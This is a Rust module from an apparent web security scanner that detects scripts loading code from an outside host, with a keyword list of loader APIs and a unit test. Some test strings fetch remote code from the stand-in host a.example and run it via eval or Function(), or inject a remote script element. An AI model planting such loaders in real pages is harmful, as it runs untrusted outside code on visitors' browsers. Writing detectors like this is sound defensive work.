//! Whether a text in a wrapper loads something from a host that it names: loaders hide their host in a wrapper.

use crate::Usage;
use crate::facts::{Atom, Fact};
use crate::taint::AddressUse;

/// Answers yes where it is not sure: it sees words, and a browser has more ways to load than there are words here.
pub(crate) fn loads_from_host(source: &str, uses: &[AddressUse], facts: &[Fact]) -> bool {
    let loads = |used: &AddressUse| used.usage == Usage::Loads && used.address.contains("//");
    let makes = |fact: &Fact| matches!(fact.atom, Atom::ScriptElement | Atom::FrameElement);
    let has = |words: &[&str]| words.iter().any(|word| source.contains(word));
    uses.iter().any(loads) || has(&HOSTS) && (facts.iter().any(makes) || has(&LOADERS))
}

/// What stands before a host, and for a browser `\\` and nothing do as well as `//`.
const HOSTS: [&str; 5] = ["//", r"\\", "http:", "https:", "wss:"];
/// Other ways to code from a host, and to run what was fetched.
const LOADERS: [&str; 17] = [
    "Worker",
    "importScripts",
    "import(",
    "EventSource",
    "WebSocket",
    "RTCPeerConnection",
    "createElementNS",
    "createContextualFragment",
    "DOMParser",
    "srcdoc",
    "object",
    "embed",
    "cloneNode",
    "insertAdjacentHTML",
    "eval",
    "Function",
    "constructor",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::{Analysis, Tables};

    #[test]
    fn code_from_a_host_is_loaded_in_many_ways() {
        let tables = Tables::new();
        let loads = |script: &str| {
            let analysis = Analysis::within(script, &tables, None);
            loads_from_host(script, &analysis.uses, &analysis.facts)
        };
        for script in [
            "var s=document.createElement('script');s.src='//a.example/b.js';document.head.appendChild(s)",
            r"var s=document.createElement('script');s.src='\\\\a.example/b.js';document.head.appendChild(s)",
            "var s=document.createElement('script');s.src='https:a.example/b.js';document.head.appendChild(s)",
            "fetch('https://a.example/b').then(function(r){return r.text()}).then(eval)",
            "fetch('https://a.example/b').then(r=>r.text()).then(t=>Function(t)())",
            "new WebSocket('wss://a.example').onmessage=function(e){f(e.data)}",
            "new Worker('https://a.example/b.js')",
        ] {
            assert!(loads(script), "{script}");
        }
        for script in ["document.title='a'", "document.links[0].href='https://a.example/'", "eval('a')"] {
            assert!(!loads(script), "{script}");
        }
    }
}
